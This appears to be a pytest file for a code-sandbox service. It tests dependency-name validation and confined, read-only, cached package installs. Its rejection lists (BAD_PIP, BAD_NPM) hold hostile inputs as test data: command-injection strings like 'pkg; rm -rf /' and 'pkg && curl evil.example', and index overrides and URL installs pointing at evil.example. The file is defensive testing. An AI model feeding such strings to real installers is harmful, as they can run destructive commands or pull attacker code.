"""additional_dependencies: validated names only, installed confined from a local wheel folder
(no test reaches the internet), cached per sandbox, read-only to the code that runs."""

from __future__ import annotations

import base64
import hashlib
import secrets
import shutil
import zipfile
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI

from fragments.app import create_app
from fragments.config import Settings
from fragments.errors import BadRequest
from fragments.sandbox.deps import validate_dependencies
from fragments.sandbox.local.service import LocalSandboxService
from fragments.sandbox.service import prepare_program
from fragments.schemas import Fragment, InterpreterResult

from .conftest import INTERPRETER, fragment

pytestmark = pytest.mark.anyio

GOOD_PIP = [
    "tabulate",
    "requests>=2.0",
    "scikit-learn==1.5.0",
    "uvicorn[standard]>=0.30,<1",
    "Foo_Bar.baz~=1.2",
]
BAD_PIP = [
    "--index-url http://evil.example/simple",
    "-e .",
    "git+https://github.com/x/y",
    "pkg @ https://evil.example/pkg.whl",
    "https://evil.example/pkg.whl",
    "./pkg",
    "/tmp/pkg",
    "pkg; rm -rf /",
    "pkg && curl evil.example",
    "pkg`id`",
    "pkg$(id)",
    "pkg | sh",
    "x" * 200,
]
GOOD_NPM = ["react", "@types/node", "lodash@^4.17.21", "zod@3.x", "next@latest", "vue@>=3.4 <4"]
BAD_NPM = [
    "git+ssh://git@github.com/x/y",
    "../x",
    "foo@file:../x",
    "--registry=http://evil.example",
    "foo@http://evil.example/x.tgz",
    "Foo",
    "foo; rm -rf /",
    "github:user/repo",
]


@pytest.mark.parametrize("dep", GOOD_PIP)
def test_pip_requirements_pass(dep: str) -> None:
    assert validate_dependencies([dep], "python") == [dep]


@pytest.mark.parametrize("dep", BAD_PIP)
def test_pip_requirements_that_are_not_registry_names_are_refused(dep: str) -> None:
    with pytest.raises(BadRequest) as info:
        validate_dependencies([dep], "python")
    assert info.value.code == "invalid_dependency"


@pytest.mark.parametrize("dep", GOOD_NPM)
def test_npm_names_pass(dep: str) -> None:
    assert validate_dependencies([dep], "node") == [dep]


@pytest.mark.parametrize("dep", BAD_NPM)
def test_npm_specs_that_are_not_registry_names_are_refused(dep: str) -> None:
    with pytest.raises(BadRequest):
        validate_dependencies([dep], "node")


def test_template_packages_are_not_installed_again() -> None:
    program = prepare_program(fragment("1", additional_dependencies=["pandas", "Tabulate>=0.9"]))
    assert program.dependencies == ("Tabulate>=0.9",)


def _wheel(folder: Path, name: str, version: str, source: str) -> Path:
    """A minimal pure-Python wheel, built by hand (no build backend, no network)."""
    module = name.replace("-", "_")
    dist = f"{module}-{version}.dist-info"
    files = {
        f"{module}/__init__.py": source,
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{dist}/WHEEL": "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\n"
        "Tag: py3-none-any\n",
    }
    record = []
    for path, content in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest())
        record.append(f"{path},sha256={digest.decode().rstrip('=')},{len(content.encode())}")
    record.append(f"{dist}/RECORD,,")
    files[f"{dist}/RECORD"] = "\n".join(record) + "\n"
    wheel = folder / f"{module}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, content in files.items():
            archive.writestr(path, content)
    wheel.chmod(0o644)
    return wheel


@pytest.fixture
def wheels() -> Iterator[Path]:
    """A local 'registry' the installer uid can read (pytest's own folders are mode 700)."""
    folder = Path(f"/var/tmp/fragments-wheels-{secrets.token_hex(4)}")
    folder.mkdir(mode=0o755)
    _wheel(folder, "fragments-probe", "1.0", "VALUE = 'probe-ok'\n")
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
async def dep_service(
    sandbox_settings: Settings, wheels: Path
) -> AsyncIterator[LocalSandboxService]:
    svc = LocalSandboxService(
        sandbox_settings.model_copy(update={"sandbox_pip_index": str(wheels)})
    )
    try:
        yield svc
    finally:
        await svc.aclose()


async def test_a_package_is_installed_confined_and_read_only(
    dep_service: LocalSandboxService,
) -> None:
    phases: list[str] = []

    async def on_phase(phase: str) -> None:
        phases.append(phase)

    code = (
        "import fragments_probe, os\n"
        "print(fragments_probe.VALUE, fragments_probe.__file__)\n"
        "try:\n"
        "    open('/opt/deps/planted.py', 'w')\n"
        "except OSError as e:\n"
        "    print('read-only', type(e).__name__)\n"
    )
    result = await dep_service.execute(
        fragment(code, additional_dependencies=["fragments-probe==1.0"]),
        owner="conv-deps",
        on_phase=on_phase,  # type: ignore[arg-type]
    )
    assert isinstance(result, InterpreterResult)
    assert result.error is None, result.error
    out = "".join(result.stdout)
    assert "probe-ok /opt/deps/fragments_probe/__init__.py" in out
    assert "read-only" in out
    assert "installing" in phases
    # Installed once per sandbox: the conversation's next run does not install again.
    phases.clear()
    again = await dep_service.execute(
        fragment(
            "import fragments_probe; print(fragments_probe.VALUE)",
            additional_dependencies=["fragments-probe==1.0"],
        ),
        owner="conv-deps",
        on_phase=on_phase,  # type: ignore[arg-type]
    )
    assert isinstance(again, InterpreterResult)
    assert again.stdout == ["probe-ok\n"]
    assert "installing" not in phases


async def test_a_failed_install_returns_the_installers_message(
    dep_service: LocalSandboxService,
) -> None:
    result = await dep_service.execute(
        fragment("print('never runs')", additional_dependencies=["no-such-package-xyz"]),
        owner="conv-missing",
    )
    assert isinstance(result, InterpreterResult)
    assert result.stdout == []
    assert result.error is not None
    assert result.error.name == "InstallError"
    assert "no-such-package-xyz" in result.error.value
    assert "not found" in result.error.value


@pytest.fixture
async def client(sandbox_settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    app: FastAPI = create_app(sandbox_settings)
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
            yield http


async def test_a_bad_dependency_is_a_400(client: httpx.AsyncClient) -> None:
    body = {
        "fragment": Fragment.model_validate(
            {"template": INTERPRETER, "code": "1", "additional_dependencies": ["--index-url x"]}
        ).model_dump()
    }
    response = await client.post("/api/sandbox", json=body)
    assert response.status_code == 400
    assert response.json()["error"] == "invalid_dependency"
